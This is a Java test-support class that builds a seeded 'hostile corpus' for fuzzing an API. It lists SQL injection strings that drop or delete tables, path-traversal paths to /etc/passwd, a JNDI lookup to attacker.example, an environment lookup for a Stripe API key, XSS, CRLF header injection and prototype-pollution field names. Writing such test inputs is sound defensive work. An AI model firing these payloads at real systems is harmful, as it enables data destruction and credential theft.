package dev.switchboard.reliability;

import dev.switchboard.json.Json;
import java.util.List;
import java.util.Random;

/**
 * The raw material of the hostile corpus: strings an attacker or a broken client sends, and
 * JSON values of every wrong type. Picked by a seeded {@link Random}, so a corpus is
 * reproduced exactly from its seed.
 */
final class Hostile {
  private Hostile() {}

  static final List<String> STRINGS = List.of(
      "'; DROP TABLE organizations; --",
      "' OR '1'='1",
      "1; SELECT pg_sleep(10)",
      "\"; DELETE FROM credit_transactions; --",
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "%2e%2e%2f%2e%2e%2f",
      "${jndi:ldap://attacker.example/a}",
      "${env:STRIPE_API_KEY}",
      "{{7*7}}",
      "<script>alert(1)</script>",
      "\u0000",
      "a\u0000b",
      "\u0001\u0002\u001f\u007f",
      "\r\nSet-Cookie: session=stolen",
      "\t",
      "😀📞",
      "\uD83D",
      "\u202Eevil",
      "Ω≈ç√∫˜µ≤≥÷",
      "ＵＳ",
      "١٢٣",
      "",
      " ",
      "null",
      "undefined",
      "NaN",
      "-0",
      "1e999",
      "0x1F",
      "%s%s%s%n",
      "\\u0000",
      "x".repeat(1_000),
      "x".repeat(20_000),
      "A".repeat(255) + "é");

  /** JSON texts of every type: numbers at the edges, booleans, null, containers, deep nesting. */
  static final List<String> JSON_VALUES = List.of(
      "0", "-1", "415", "1.5", "1e309", "-9223372036854775809", "9223372036854775808", "true", "false", "null",
      "[]", "{}", "[\"US\"]", "{\"$ne\":null}", "{\"country\":\"US\"}",
      "[".repeat(40) + "]".repeat(40),
      "[".repeat(5_000) + "]".repeat(5_000),
      "{\"a\":".repeat(100) + "1" + "}".repeat(100));

  static String string(Random random) {
    return STRINGS.get(random.nextInt(STRINGS.size()));
  }

  /** A hostile value as JSON text: a wrong-typed value or a hostile string literal. */
  static String jsonValue(Random random) {
    return random.nextBoolean()
        ? JSON_VALUES.get(random.nextInt(JSON_VALUES.size()))
        : Json.write(string(random));
  }

  /** A field name no API of ours accepts. */
  static String unknownField(Random random) {
    List<String> names = List.of("__proto__", "constructor", "colour", "country\u0000", "'; DROP TABLE x; --",
        "a".repeat(1_000), "", "ORG_ID", "org_id", "orgId", "balancePence", "status");
    return names.get(random.nextInt(names.size()));
  }

  static <T> T pick(Random random, List<T> options) {
    return options.get(random.nextInt(options.size()));
  }
}
